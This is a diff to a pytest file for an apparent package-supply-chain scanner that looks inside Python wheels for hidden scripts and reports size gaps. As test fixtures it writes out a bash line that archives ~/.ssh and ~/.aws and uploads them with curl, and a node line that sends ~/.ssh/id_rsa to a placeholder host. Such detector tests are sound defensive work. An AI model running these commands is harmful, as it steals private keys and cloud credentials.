@@ -16,6 +16,7 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
+from mlsupply.audit import run
 from mlsupply.cli import main
 from mlsupply.evidence import look
 from mlsupply.evidence.account import account
@@ -30,6 +31,7 @@ from mlsupply.evidence.served import best
 from mlsupply.model import Artifact, Checked, Coordinate, Inventory, Package, Place, Reason, SourceKind
 from mlsupply.model import Source as PackageSource
 from mlsupply.project import merge
+from mlsupply.report.view import view_of
 from mlsupply.request import Request
 from mlsupply.world import Failure, World
 from tests.conftest import RecordedFetch
@@ -311,13 +313,41 @@ def test_a_large_program_among_the_scripts_is_told_and_a_large_script_is_a_gap(t
     scripts = {
         "demo-1.0.data/scripts/native": b"\x7fELF" + bytes(40 << 20),
         "demo-1.0.data/scripts/endless": b"#!python\n" + b"#" * (9 << 20),
+        "demo-1.0.data/scripts/unnamed": b"import os\n" + b"#" * (9 << 20),
+        "demo/many.sh": b"true\n" * 30_000,
+        "demo/large.js": b"x=1;" * (5 << 20),
         "demo-1.0.data/scripts/own": b"#!/usr/bin/env python3\n" + PAYLOAD,
     }
     facts = look_inside(put(tmp_path, "a.whl", wheel({**CLEAN, **scripts})), pool)
-    assert [(gap.reason, gap.place.member) for gap in facts.gaps if gap.place] == [
-        (Reason.TOO_LARGE, "demo-1.0.data/scripts/endless")
-    ]
+    assert {(gap.reason, gap.place.member) for gap in facts.gaps if gap.place} == {
+        (Reason.TOO_LARGE, "demo-1.0.data/scripts/endless"),
+        (Reason.TOO_LARGE, "demo-1.0.data/scripts/unnamed"),
+        (Reason.LIMIT, "demo/many.sh"),
+        (Reason.TOO_LARGE, "demo/large.js"),
+    }
     assert {fact.member for fact in facts.code} == {"demo-1.0.data/scripts/own"}
+
+
+def test_scripts_are_told_by_their_first_line(tmp_path: Path, pool: Pool) -> None:
+    """An installer hides a long interpreter behind the shell; what is the shell's own has no ending."""
+    scripts = {
+        "behind": b"#!/bin/sh\n'''exec' \"/a b/python\" \"$0\" \"$@\"\n' '''\n" + PAYLOAD,
+        "shell": b"#!/usr/bin/env bash\ntar czf - ~/.ssh ~/.aws/ | curl -s -T - https://x.example/\n",
+        "node": b"#!/usr/bin/env node\nd=require('fs').readFileSync(h+'/.ssh/id_rsa');fetch('https://x.example',{body:d})",
+        "quiet": b"#!/bin/sh\necho hello\n",
+    }
+    made = wheel({**CLEAN, **{f"demo-1.0.data/scripts/{name}": data for name, data in scripts.items()}})
+    facts = look_inside(put(tmp_path, "a.whl", made), pool)
+    assert {fact.member.rpartition("/")[2] for fact in facts.code} == {"behind", "shell", "node"}
+    assert facts.gaps == ()
+
+
+def test_a_package_with_a_finding_and_a_gap_is_not_counted_as_looked_at_in_full(world: World) -> None:
+    put(world.tree.root, "demo-1.0-py3-none-any.whl", wheel({**BAD, "demo/hidden.pyc": b"bytecode"}))
+    request = Request(subjects=("demo-1.0-py3-none-any.whl",), checks=("contents",))
+    report = run(request, world)
+    assert len(report.findings) == len(report.gaps) == 1
+    assert "contents: 0 of 1 package looked at in full." in view_of(report).coverage
 
 
 def test_local_archives_are_looked_into_and_the_others_share_one_gap(world: World) -> None:
